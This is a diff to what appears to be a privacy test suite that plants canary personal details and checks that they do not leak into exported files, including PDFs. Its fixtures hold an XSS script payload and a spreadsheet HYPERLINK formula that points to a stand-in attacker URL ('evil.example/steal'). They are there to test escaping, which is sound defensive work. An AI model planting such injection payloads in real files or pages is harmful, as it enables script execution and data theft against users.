@@ -31,7 +31,8 @@ PHONE = "660-314-1592"
 STREET = "77 Quillfeather Hollow Rd"
 SEARCH = "quillfeather custody dispute"
 HAR_SEARCH = "coping with gambling debt"  # the sample capture's search, replaced by SEARCH
-CANARIES = (BARCODE, NAME, EMAIL, PHONE, STREET, SEARCH)
+# The rare words alone too: a PDF may wrap a name or an address across two lines.
+CANARIES = (BARCODE, NAME, EMAIL, PHONE, STREET, SEARCH, "quillfeather", "zebulon")
 
 XSS = '<script>alert("lcopia-xss")</script>'
 FORMULA = '=HYPERLINK("http://evil.example/steal","open me")'
@@ -48,7 +49,7 @@ def _variants(value: str) -> set[str]:
     words = low.split()
     if len(words) > 1:
         out |= {"+".join(words), "%20".join(words), "%2b".join(words)}
-    return out
+    return {v.lower() for v in out}
 
 
 def _rows(path: Path) -> list[list[str]]:
